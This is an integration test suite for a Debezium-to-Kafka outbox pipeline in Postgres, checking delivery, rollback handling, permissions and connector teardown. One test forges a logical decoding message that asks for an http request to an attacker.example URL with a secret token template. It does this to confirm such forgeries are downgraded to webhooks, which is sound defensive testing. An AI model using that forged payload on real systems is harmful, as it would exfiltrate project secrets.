// The pipeline everything rides on: a row committed into a project's base.outbox is captured by
// Debezium from the WAL and lands on the outbox topic; a rolled-back insert never does; the table
// stays empty; removing the connector drops its slot and publication.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Kafka, logLevel, type Consumer, type KafkaMessage } from 'kafkajs';
import pg from 'pg';
import { ConnectClient } from '../../src/kafka/index.js';
import { connectorName, slotName } from '../../src/outbox/index.js';
import { disableOutbox, enableOutbox, type OutboxEnv } from '../../src/outbox/enable.js';
import { installWebhookTrigger } from '../../src/outbox/webhook-triggers.js';
import { createDatabase, createTopicReady, dropDatabase, eventually, stack, uniqueName } from '../helpers/env.js';

describe('CDC smoke path: base.outbox → Debezium → Kafka', () => {
  const prefix = uniqueName('cdc');
  const ref = uniqueName('p');
  const dbName = `proj_${ref}`;
  const topic = `${prefix}.outbox`;
  let dbUrl: string;
  let env: OutboxEnv;
  let consumer: Consumer;
  let db: pg.Client;
  const received: KafkaMessage[] = [];

  beforeAll(async () => {
    dbUrl = await createDatabase(dbName);
    const kafka = new Kafka({ brokers: stack().kafkaBrokers, clientId: 'cdc-test', logLevel: logLevel.NOTHING });
    const admin = kafka.admin();
    await admin.connect();
    await createTopicReady(admin, topic, 2);
    await admin.disconnect();
    env = { connect: new ConnectClient(stack().connectUrl), topicPrefix: prefix, outboxTopic: topic };
    await enableOutbox(env, ref, dbUrl);
    consumer = kafka.consumer({ groupId: `${prefix}-test` });
    await consumer.connect();
    await consumer.subscribe({ topic, fromBeginning: true });
    await consumer.run({ eachMessage: async ({ message }) => void received.push(message) });
    db = new pg.Client({ connectionString: dbUrl });
    await db.connect();
  });

  afterAll(async () => {
    await consumer?.disconnect();
    await db?.end();
    await dropDatabase(dbName).catch(() => {});
  });

  const find = (id: string) => received.find((m) => m.headers?.id?.toString() === id);

  it('delivers a committed message to the topic with its id, kind and project', async () => {
    const { rows } = await db.query(`select base.http_request('POST', 'https://example.com/hook', '{"x-a":"b"}', '{"hello":"world"}') as id`);
    const id = rows[0].id as string;
    const msg = await eventually(async () => find(id), 60_000, 'the committed message on the topic');
    expect(msg.key?.toString()).toBe(id);
    expect(msg.headers?.project?.toString()).toBe(ref);
    expect(msg.headers?.kind?.toString()).toBe('http');
    const value = JSON.parse(msg.value!.toString());
    expect(value).toMatchObject({ id, kind: 'http', method: 'POST', url: 'https://example.com/hook', headers: { 'x-a': 'b' }, body: { hello: 'world' } });
  });

  it('never delivers a rolled-back message, and keeps the outbox table empty', async () => {
    await db.query('begin');
    const rolledBack = (await db.query(`select base.http_request('GET', 'https://example.com/rolled-back') as id`)).rows[0].id as string;
    await db.query('rollback');
    // A later committed message proves the stream moved past the rolled-back one.
    const after = (await db.query(`select base.http_request('GET', 'https://example.com/after') as id`)).rows[0].id as string;
    await eventually(async () => find(after), 60_000, 'the message committed after the rollback');
    expect(find(rolledBack)).toBeUndefined();
    const { rows } = await db.query('select count(*)::int as n from base.outbox');
    expect(rows[0].n).toBe(0);
  });

  it('refuses malformed arguments in the caller transaction', async () => {
    await expect(db.query(`select base.http_request('FETCH', 'https://example.com')`)).rejects.toThrow(/unknown HTTP method/);
    await expect(db.query(`select base.http_request('GET', 'https://example.com', '{}', null, null, -5)`)).rejects.toThrow(/timeout_ms/);
    await expect(db.query(`select base.http_request('GET', 'https://example.com', '{}', null, 'not a function')`)).rejects.toThrow(/schema\.function/);
  });

  it('does not let API roles call the outbox functions', async () => {
    await db.query('begin');
    try {
      await db.query('set local role anon');
      await expect(db.query(`select base.http_request('GET', 'https://example.com')`)).rejects.toThrow(/permission denied/);
    } finally {
      await db.query('rollback');
    }
  });

  it("carries a webhook's logical decoding message with its text intact, whatever the characters", async () => {
    expect((await db.query('select message_prefix from base.capture')).rows[0].message_prefix).toMatch(/^base_outbox_[0-9a-f]{32}$/);
    await db.query('create table public.words (id serial primary key, word text)');
    await installWebhookTrigger(db, { id: '5e4d3c2b-1a09-4f8e-9d7c-6b5a49382716', schema: 'public', table: 'words', events: ['INSERT'] });
    const word = `héllo ✓ 日本語 🎉 "quoted" \\ back\\slash \u0001 ${Date.now()}`;
    await db.query('insert into public.words (word) values ($1)', [word]);
    const msg = await eventually(async () => received.find((m) => m.headers?.kind?.toString() === 'webhook' && JSON.parse(m.value!.toString()).payload?.record?.word === word), 60_000, 'the webhook message, its text intact');
    expect(msg.headers?.project?.toString()).toBe(ref);
  });

  it('gives a forged message under the prefix the webhook kind, whatever it claims to be', async () => {
    // a role that could read the prefix (a superuser, pg_read_all_data) forging an http request
    // with the project's secrets: the message path only ever carries webhooks, read by webhook id
    const prefix = (await db.query('select message_prefix from base.capture')).rows[0].message_prefix as string;
    const id = (await db.query('select gen_random_uuid()::text as id')).rows[0].id as string;
    const forged = JSON.stringify({ id, aggregatetype: 'message', aggregateid: id, type: 'http', payload: JSON.stringify({ id, kind: 'http', method: 'POST', url: 'https://attacker.example/{{secret:TOKEN}}' }) });
    await db.query('select pg_logical_emit_message(true, $1, $2)', [prefix, forged]);
    const msg = await eventually(async () => received.find((m) => m.headers?.id?.toString() === id), 60_000, 'the forged message on the topic');
    const kinds = msg.headers?.kind;
    expect((Array.isArray(kinds) ? kinds : [kinds]).map((k) => k?.toString())).toEqual(['webhook']);
  });

  it('removing the connector drops its replication slot and publication', async () => {
    await disableOutbox(env, ref, dbUrl);
    const connectors = await env.connect.list();
    expect(connectors).not.toContain(connectorName(ref, prefix));
    const slots = await db.query('select 1 from pg_replication_slots where slot_name = $1', [slotName(ref, prefix)]);
    expect(slots.rowCount).toBe(0);
    const pubs = await db.query('select 1 from pg_publication');
    expect(pubs.rowCount).toBe(0);
  });
});
